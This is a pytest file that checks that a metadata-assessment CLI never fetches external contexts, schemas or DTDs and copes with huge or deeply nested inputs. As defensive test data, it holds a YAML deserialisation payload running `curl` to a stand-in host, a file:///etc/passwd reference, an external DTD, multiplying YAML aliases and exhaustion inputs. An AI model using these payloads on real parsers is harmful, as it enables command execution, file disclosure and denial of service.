"""Documents that name things elsewhere, or that are too large or too deep: nothing is fetched, and nothing breaks."""

from __future__ import annotations

import json
import socket
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.cli.conftest import Ran, run  # noqa: F401 - the fixture

Run = Callable[..., Ran]
LEAK = "http://leak.example.org:8080"

JSON_LD: dict[str, dict[str, Any]] = {
    "context": {"@context": f"{LEAK}/context.jsonld"},
    "contexts": {"@context": ["https://schema.org", f"{LEAK}/context.jsonld"]},
    "context of a file": {"@context": "file:///etc/passwd"},
    "import": {"@context": {"@version": 1.1, "@import": f"{LEAK}/context.jsonld"}},
    "nested context": {"creator": {"@context": f"{LEAK}/c", "name": "Ada"}},
    "scoped context": {"@context": {"creator": {"@id": "schema:creator", "@context": f"{LEAK}/c"}}},
    "vocabulary": {"@context": {"@vocab": f"{LEAK}/vocabulary#"}},
    "base": {"@context": {"@base": f"{LEAK}/"}, "license": "licence"},
    "prefix": {"@context": {"x": f"{LEAK}/x#"}, "x:name": "Jets"},
    "type": {"@type": [f"{LEAK}/Type", "Dataset"]},
    "reference": {"creator": {"@id": f"{LEAK}/ada"}},
    "included": {"@included": [{"@id": f"{LEAK}/x"}]},
    "schema": {"$schema": f"{LEAK}/schema.json"},
    "schema reference": {"$ref": f"{LEAK}/schema.json#/definitions/x"},
    "conforms to": {"conformsTo": {"@id": f"{LEAK}/profile"}, "http://purl.org/dc/terms/conformsTo": f"{LEAK}/profile"},
    "licence": {"license": f"{LEAK}/licence"},
    "main entity": {"mainEntityOfPage": f"{LEAK}/page"},
    "download": {"distribution": {"@type": "DataDownload", "contentUrl": f"{LEAK}/x.h5"}},
    "terms": {"about": {"@type": "DefinedTerm", "inDefinedTermSet": f"{LEAK}/terms"}},
}
CERN: dict[str, dict[str, Any]] = {
    "schema of a record": {"$schema": f"{LEAK}/schema/record-v1.0.0.json"},
    "index files": {"files": [{"uri": f"{LEAK}/index.json", "type": "index.json", "size": 1, "checksum": "x:1"}]},
    "semantics": {"dataset_semantics_files": {"json": f"{LEAK}/semantics.json", "url": f"{LEAK}/x"}},
}
OTHERS: dict[str, tuple[str, str]] = {
    "doctype": ("x.json", f'<!DOCTYPE a SYSTEM "{LEAK}/a.dtd"><a/>'),
    "schema of TOML": ("fairkit.toml", f'#:schema {LEAK}/schema.json\n[resource]\ntitle = "Jets of two kinds"\n'),
    "tag of YAML": ("CITATION.cff", f"cff-version: 1.2.0\ntitle: !!python/object/apply:os.system ['curl {LEAK}']\n"),
}


@pytest.fixture(autouse=True)
def _alone(monkeypatch: pytest.MonkeyPatch) -> None:
    """No name is looked up and nothing is connected to, not even on this machine."""

    def refused(*asked: Any, **_: Any) -> Any:
        raise RuntimeError(f"something was asked of the network: {asked!r}")

    monkeypatch.setattr(socket.socket, "connect", refused)
    monkeypatch.setattr(socket, "getaddrinfo", refused)


def test_there_are_twenty_five_of_them() -> None:
    assert len(JSON_LD) + len(CERN) + len(OTHERS) == 25


@pytest.mark.parametrize("name", JSON_LD)
def test_no_context_or_schema_of_a_document_is_loaded(name: str, run: Run, tmp_path: Path) -> None:  # noqa: F811
    dataset = {"@type": "Dataset", "name": "Jets of two kinds"} | JSON_LD[name]
    dataset["@context"] = ["https://schema.org", dataset.get("@context", {})]
    told = assessed(run, tmp_path / "record.jsonld", json.dumps(dataset))
    assert told["resource"]["title"] == "Jets of two kinds"


@pytest.mark.parametrize("name", CERN)
def test_nothing_that_a_record_names_is_loaded(name: str, run: Run, tmp_path: Path) -> None:  # noqa: F811
    record = {"recid": "1", "title": "Jets of two kinds", "type": {"primary": "Dataset"}, "experiment": ["CMS"]}
    told = assessed(run, tmp_path / "record.json", json.dumps(record | CERN[name]))
    assert told["resource"]["title"] == "Jets of two kinds"


@pytest.mark.parametrize("name", OTHERS)
def test_no_other_form_reaches_out_either(name: str, run: Run, tmp_path: Path) -> None:  # noqa: F811
    file, body = OTHERS[name]
    (tmp_path / file).write_text(body)
    assert run("assess", tmp_path / file, "--json").code in (0, 2, 3)


def assessed(run: Run, path: Path, body: str) -> dict[str, Any]:  # noqa: F811
    path.write_text(body)
    done = run("assess", path, "--json")
    assert done.code == 0, done.err
    [told] = json.loads(done.out)
    found: dict[str, Any] = told
    return found


def nested(depth: int, opening: str, closing: str, inside: str = "1") -> str:
    return opening * depth + inside + closing * depth


LARGE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "lists, a hundred thousand deep": ("x.json", lambda: nested(100_000, "[", "]").encode()),
    "objects, a hundred thousand deep": ("x.json", lambda: nested(100_000, '{"a":', "}").encode()),
    "JSON-LD, deep in its creators": (
        "x.jsonld",
        lambda: (
            '{"@context":"https://schema.org","@type":"Dataset","name":"Jets","creator":'
            + nested(900, '{"@type":"Person","name":"Ada","affiliation":', "}", '"CERN"')
            + "}"
        ).encode(),
    ),
    "a graph in a graph": ("x.jsonld", lambda: nested(900, '{"@graph":[', "]}", '{"@type":"Dataset"}').encode()),
    "a number of a million digits": ("x.json", lambda: b'{"recid":"1","title":"x","n":' + b"9" * 1_000_000 + b"}"),
    "a title of twenty million letters": (
        "x.json",
        lambda: json.dumps({"recid": "1", "title": "x" * 20_000_000, "type": {"primary": "Dataset"}}).encode(),
    ),
    "a hundred thousand keywords": (
        "x.json",
        lambda: json.dumps(
            {"recid": "1", "title": "x", "experiment": ["CMS"], "keywords": [f"word {n}" for n in range(100_000)]}
        ).encode(),
    ),
    "a hundred thousand keys": (
        "x.jsonld",
        lambda: json.dumps(
            {"@context": "https://schema.org", "@type": "Dataset", "name": "x"} | {f"k{n}": n for n in range(100_000)}
        ).encode(),
    ),
    "aliases of YAML that multiply": (
        "CITATION.cff",
        lambda: (
            "cff-version: 1.2.0\na: &a [x,x,x,x,x,x,x,x,x]\n"
            + "".join(f"{b}: &{b} [{','.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True))
        ).encode(),
    ),
    "TOML, deep": ("fairkit.toml", lambda: f"a = {nested(5_000, '[', ']')}".encode()),
    "HTML without end in a description": (
        "x.json",
        lambda: json.dumps(
            {"recid": "1", "title": "x", "experiment": ["CMS"], "abstract": {"description": "<a<b" * 500_000}}
        ).encode(),
    ),
    "more than a document may have": ("x.json", lambda: b" " * (65 * 1024 * 1024)),
}


@pytest.mark.parametrize("name", LARGE)
def test_what_is_too_large_or_too_deep_is_told_or_read_in_time(name: str, run: Run, tmp_path: Path) -> None:  # noqa: F811
    file, body = LARGE[name]
    (tmp_path / file).write_bytes(body())
    start = time.process_time()
    done = run("assess", tmp_path / file, "--json", "-o", tmp_path / "out.json")
    assert done.code in (0, 2, 3), done.err
    assert "our bug" not in done.err
    assert len(done.err) < 2_000
    assert time.process_time() - start < 60, "no text makes us work without end"
    if done.code == 0:
        assert (tmp_path / "out.json").stat().st_size < 2_000_000


def test_there_are_twelve_of_them() -> None:
    assert len(LARGE) == 12
